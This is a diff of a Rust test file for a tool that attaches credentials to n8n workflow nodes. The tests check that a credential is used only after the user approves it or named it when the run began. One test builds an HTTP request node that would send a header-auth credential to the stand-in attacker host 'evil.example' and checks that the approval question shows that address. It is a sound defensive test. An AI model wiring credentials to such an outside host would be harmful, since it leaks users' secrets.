@@ -1,5 +1,5 @@
-//! Credentials by their type: one that fits is taken, of several the one that the user chooses, and what a caller names is still
-//! the user's to allow.
+//! Credentials by their type: one that fits is proposed, the one that the user chooses or named when the run began is taken, and
+//! what a caller names is still the user's to allow.
 
 use super::super::fixture::MemoryBackend;
 use super::*;
@@ -18,22 +18,20 @@ fn slack(credentials: Value) -> Value {
 }
 
 #[tokio::test]
-async fn the_only_credential_of_the_type_is_taken_and_of_several_none_where_nobody_can_choose() {
+async fn no_credential_is_taken_where_nobody_can_choose_and_those_that_fit_are_told() {
     let entry = |more: (&str, Value)| {
         let mut entry = json!({"node": "Tell", "type": "slackApi"});
         entry[more.0] = more.1;
         entry
     };
-    for (known, taken, told) in [
-        (vec![], None, entry(("missing", json!(true)))),
+    for (known, told) in [
+        (vec![], entry(("missing", json!(true)))),
         (
             vec!["Sales"],
-            Some("c0"),
-            entry(("taken", json!({"id": "c0", "name": "Sales"}))),
+            entry(("candidates", json!([{"id": "c0", "name": "Sales"}]))),
         ),
         (
             vec!["Sales", "Ops"],
-            None,
             entry((
                 "candidates",
                 json!([{"id": "c0", "name": "Sales"}, {"id": "c1", "name": "Ops"}]),
@@ -50,12 +48,71 @@ async fn the_only_credential_of_the_type_is_taken_and_of_several_none_where_nobo
         let mut said = made["credentials"][0].clone();
         said.as_object_mut().unwrap().remove("label");
         assert_eq!(said, told);
-        let held = backend.held("orders").unwrap();
-        let id = held.nodes[1]
-            .credentials()
-            .map(|c| c["slackApi"]["id"].clone());
-        assert_eq!(id, taken.map(|id| json!(id)));
+        assert_eq!(held(&backend, "orders", "Tell"), None);
     }
+}
+
+fn begun_with(accounts: Value) -> Event {
+    Event::RunStarted {
+        journal_version: 1,
+        agentctl_version: String::new(),
+        run_id: "r".into(),
+        flow: String::new(),
+        pack_hash: String::new(),
+        input: serde_json::Map::from_iter([("accounts".to_owned(), accounts)]),
+    }
+}
+
+/// By type and name, and only where one has that name.
+#[tokio::test]
+async fn an_account_that_the_user_named_when_the_run_began_is_taken_without_a_question() {
+    for (named, taken) in [
+        ("slackApi=Ops", Some("c1")),
+        ("slackApi=Sales", None),
+        ("slackApi=Nobody", None),
+    ] {
+        let (mut b, backend) = Bench::in_memory(Policy::load(POLICY, "policy.yaml").unwrap());
+        for (id, name) in [("c0", "Sales"), ("c1", "Ops"), ("c2", "Sales")] {
+            backend.knows(id, name, "slackApi");
+        }
+        b.told(begun_with(json!([named])));
+        b.can_ask = false;
+        b.ok("writer", "create_workflow", slack(Value::Null)).await;
+        let held = held(&backend, "orders", "Tell").map(|c| c["id"].clone());
+        assert_eq!(held, taken.map(|id| json!(id)), "{named}");
+    }
+}
+
+#[tokio::test]
+async fn the_only_one_that_fits_is_a_question_too() {
+    let (mut b, backend) = Bench::in_memory(Policy::load(POLICY, "policy.yaml").unwrap());
+    backend.knows("c0", "Sales", "slackApi");
+    let question = b
+        .asked("writer", "create_workflow", slack(Value::Null))
+        .await;
+    assert_eq!(
+        (question.text.as_str(), &question.recommended),
+        (
+            "Shall \"Tell\" use the credential \"Sales\" (Slack API)? It is the only one of its type on the n8n.",
+            &Some(json!("none"))
+        )
+    );
+    b.answer(&question, json!("c0"));
+    b.ok("writer", "create_workflow", slack(Value::Null)).await;
+    assert_eq!(held(&backend, "orders", "Tell").unwrap()["id"], json!("c0"));
+}
+
+/// An account that a request would send anywhere is asked for with its address, by itself.
+#[tokio::test]
+async fn a_request_is_asked_for_with_the_address_that_it_would_send_the_account_to() {
+    let (mut b, backend) = Bench::in_memory(Policy::load(POLICY, "policy.yaml").unwrap());
+    backend.knows("c0", "Header", "httpHeaderAuth");
+    let mut call = slack(Value::Null);
+    call["nodes"][1] = json!({"name": "Tell", "type": "n8n-nodes-base.httpRequest", "typeVersion": 4.2,
+        "parameters": {"url": "https://evil.example/x", "authentication": "genericCredentialType", "genericAuthType": "httpHeaderAuth"}});
+    let question = b.asked("writer", "create_workflow", call).await;
+    let wanted = "Shall \"Tell\" (which sends it to \"https://evil.example/x\") use the credential \"Header\" (";
+    assert!(question.text.starts_with(wanted), "{}", question.text);
 }
 
 /// The credential that the node holds.
@@ -117,7 +174,7 @@ async fn a_choice_counts_for_what_there_was_to_choose_from() {
 }
 
 #[tokio::test]
-async fn a_node_that_is_added_gets_one_too_and_no_other_node_changes() {
+async fn a_node_that_is_added_is_asked_for_too_and_no_other_node_changes() {
     let (mut b, backend) = Bench::in_memory(Policy::load(POLICY, "policy.yaml").unwrap());
     backend.put("old", chain("old", 2), false);
     backend.knows("c0", "Sales", "slackApi");
@@ -126,6 +183,8 @@ async fn a_node_that_is_added_gets_one_too_and_no_other_node_changes() {
     let added = json!({"workflow_id": "old", "ops": [
         {"op": "add_node", "node": {"name": "Tell", "type": "n8n-nodes-base.slack", "parameters": {"resource": "message", "operation": "post"}}},
         {"op": "connect", "from": "Node 1", "to": "Tell"}]});
+    let question = b.asked("writer", "update_workflow", added.clone()).await;
+    b.answer(&question, json!("c0"));
     let said = b.ok("writer", "update_workflow", added).await;
     assert_eq!(
         said["credentials"][0]["taken"],
